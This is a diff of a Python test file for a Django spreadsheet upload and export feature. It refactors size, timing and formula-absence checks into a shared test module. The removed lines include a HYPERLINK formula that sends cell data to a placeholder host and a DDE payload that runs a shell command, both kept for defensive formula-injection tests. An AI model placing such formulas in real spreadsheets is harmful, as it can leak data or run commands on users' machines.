@@ -13,18 +13,25 @@ from __future__ import annotations
 
 import html
 import io
-import re
-import time
-import tracemalloc
-import zipfile
-from collections.abc import Callable
 from typing import Any
 
 import openpyxl
 import pytest
 from django.test import Client
 
-from parindex.exchange.tests.hostile import entity_workbook, million_cells, not_a_zip
+from parindex.exchange.tests.hostile import (
+    DDE,
+    HYPERLINK,
+    MAX_PEAK_BYTES,
+    MAX_SECONDS,
+    MIB,
+    assert_no_formula,
+    entity_workbook,
+    measure,
+    million_cells,
+    not_a_zip,
+)
+from parindex.exchange.tests.hostile import lifted_part_limits as lifted
 from parindex.frameworks.checking import check_upload
 from parindex.frameworks.models import FrameworkVersion
 from parindex.frameworks.services import framework_check_upload, framework_import
@@ -32,41 +39,7 @@ from parindex.frameworks.services import framework_check_upload, framework_impor
 from .conftest import Province
 from .helpers import department_doc, find, xlsx_file, yaml_bytes
 
-MIB = 1024 * 1024
-MAX_SECONDS = 2.0
-MAX_PEAK_BYTES = 50 * MIB
-HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Bấm vào đây")'
-DDE = "=cmd|' /C calc'!A0"
-FORMULA_ELEMENT = re.compile(rb"<(?:[A-Za-z0-9_]+:)?f[\s/>]")
 UPLOAD_URL = "/bo-tieu-chi/tai-len/"
-
-
-def _measure(call: Callable[[], Any]) -> tuple[Any, float, int]:
-    """(result, wall seconds without tracemalloc, peak traced bytes of a second run)."""
-    start = time.perf_counter()
-    result = call()
-    seconds = time.perf_counter() - start
-    tracemalloc.start()
-    try:
-        call()
-        _current, peak = tracemalloc.get_traced_memory()
-    finally:
-        tracemalloc.stop()
-    return result, seconds, peak
-
-
-def _assert_no_formula(data: bytes) -> None:
-    with zipfile.ZipFile(io.BytesIO(data)) as archive:
-        sheets = [
-            n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")
-        ]
-        assert sheets
-        for name in sheets:
-            assert not FORMULA_ELEMENT.search(archive.read(name)), f"a formula in {name}"
-    for ws in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
-        for row in ws.iter_rows():
-            for cell in row:
-                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
 
 
 @pytest.fixture
@@ -78,12 +51,7 @@ def organiser_client(province: Province) -> Client:
 
 @pytest.fixture
 def lifted_part_limits(settings: Any) -> None:
-    """Part-size limits high enough that the 3M-cell sheet is streamed and counted."""
-    settings.SHEET_LIMITS = {
-        **settings.SHEET_LIMITS,
-        "max_part_bytes": 200 * MIB,
-        "max_total_bytes": 400 * MIB,
-    }
+    settings.SHEET_LIMITS = lifted(settings.SHEET_LIMITS)
 
 
 def _post(client: Client, province: Province, data: bytes) -> Any:
@@ -103,7 +71,7 @@ def test_three_million_cells_are_refused_fast_in_bounded_memory(
         request.getfixturevalue("lifted_part_limits")
     assert organiser_client.get(UPLOAD_URL).status_code == 200  # warm up
     data = million_cells()
-    response, seconds, peak = _measure(lambda: _post(organiser_client, province, data))
+    response, seconds, peak = measure(lambda: _post(organiser_client, province, data))
     print(f"criteria-set upload, 3M cells ({limits}): {seconds:.3f} s, peak {peak / MIB:.1f} MiB")
     page = html.unescape(response.content.decode())
     assert response.status_code == 422
@@ -121,7 +89,7 @@ def test_check_upload_refuses_three_million_cells_fast(
     if limits == "lifted":
         request.getfixturevalue("lifted_part_limits")
     data = million_cells()
-    result, seconds, peak = _measure(
+    result, seconds, peak = measure(
         lambda: framework_check_upload(filename="bo.xlsx", content=data)
     )
     print(
@@ -187,7 +155,7 @@ def test_comparison_export_keeps_formula_like_names_as_text(
     first, second, renamed = _versions(province)
     export = organiser_client.get(f"/bo-tieu-chi/so-sanh/xlsx/?a={first.pk}&b={second.pk}")
     assert export.status_code == 200
-    _assert_no_formula(export.content)
+    assert_no_formula(export.content)
     ws = openpyxl.load_workbook(io.BytesIO(export.content)).active
     rows = [tuple(c.value for c in row) for row in ws.iter_rows(min_row=6)]
     after = {(r[0], r[2]): r[4] for r in rows}
@@ -203,7 +171,7 @@ def test_set_download_keeps_formula_like_names_and_uploads_back_the_same(
     _first, second, renamed = _versions(province)
     download = organiser_client.get(f"/bo-tieu-chi/{second.pk}/xlsx/")
     assert download.status_code == 200
-    _assert_no_formula(download.content)
+    assert_no_formula(download.content)
     result = check_upload("vd-so-2025.xlsx", download.content)
     assert result.ok, result.problems
     assert result.sha256 == second.sha256
